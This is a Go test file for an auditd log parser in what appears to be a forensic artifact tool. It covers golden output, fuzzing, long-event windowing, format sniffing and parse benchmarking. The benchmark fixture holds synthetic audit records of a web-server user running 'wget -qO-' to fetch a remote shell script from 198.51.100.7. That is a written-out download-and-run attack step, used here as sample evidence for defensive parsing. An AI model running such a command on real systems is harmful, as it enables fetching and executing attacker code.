package auditd_test

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	"telltale/artifact/artifacttest"
	"telltale/artifact/auditd"
)

func TestGolden(t *testing.T) { artifacttest.Golden(t, auditd.New()) }

func FuzzRead(f *testing.F) { artifacttest.Fuzz(f, auditd.New) }

func run(t *testing.T, text string) string {
	return string(artifacttest.Run(t, auditd.New(), artifacttest.Input([]byte(text))))
}

func TestNamesOfTheHost(t *testing.T) {
	artifacttest.GoldenAs(t, auditd.New(), "host.txt", "/var/log/audit/audit.log", "")
}

func TestWindow(t *testing.T) {
	var b strings.Builder
	for i := range 1000 { // more events than are kept open, none of which ends
		fmt.Fprintf(&b, "type=SYSCALL msg=audit(1700000000.001:%d): arch=c000003e syscall=59 success=yes pid=%d exe=\"/bin/id\"\n", i, i)
	}
	if got := strings.Count(run(t, b.String()), "process-started 2023"); got != 1000 {
		t.Errorf("of 1000 open events %d are told", got)
	}
	long := strings.Repeat("41", 20_000)
	b.Reset()
	fmt.Fprintf(&b, "type=EXECVE msg=audit(1700000000.001:1): argc=2 a0=\"sh\" a1_len=1 a1[0]=%s\n", long)
	fmt.Fprintf(&b, "type=EXECVE msg=audit(1700000000.001:1): a1[1]=%s a2=\"end\"\n", long)
	got, _, _ := strings.Cut(run(t, b.String()), "\n")
	if n := strings.Count(got, "A"); n != 32<<10-len("sh ") || strings.Contains(got, "end") {
		t.Errorf("a long command line is kept with %d bytes", n)
	}
}

func TestSniff(t *testing.T) {
	sniff := auditd.New().Sniff
	if !sniff([]byte("type=DAEMON_START msg=audit(1700000000.001:1): op=start\n")) || !sniff([]byte("node=a type=LOGIN msg=audit(1700000000.001:1): pid=1\n")) ||
		sniff(nil) || sniff([]byte("Jul  9 01:02:03 host audit[1]: LOGIN pid=1\n")) || sniff([]byte("WORDS a=b\n")) {
		t.Error("an audit log is not told from others")
	}
}

func BenchmarkParse(b *testing.B) {
	const form = `type=SYSCALL msg=audit(1700000000.123:%[1]d): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=8 items=2 ppid=812 pid=%[1]d auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="wget" exe="/usr/bin/wget" subj=unconfined key="exec"
type=EXECVE msg=audit(1700000000.123:%[1]d): argc=3 a0="wget" a1="-qO-" a2="http://198.51.100.7/x.sh"
type=CWD msg=audit(1700000000.123:%[1]d): cwd="/var/www/html"
type=PATH msg=audit(1700000000.123:%[1]d): item=0 name="/usr/bin/wget" inode=1051 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1700000000.123:%[1]d): proctitle=77676574002D714F2D
`
	var all bytes.Buffer
	for i := range 2000 {
		fmt.Fprintf(&all, form, i+1)
	}
	b.SetBytes(int64(all.Len()))
	b.ReportAllocs()
	for b.Loop() {
		for range auditd.New().Parse(context.Background(), artifacttest.Input(all.Bytes())) {
		}
	}
}
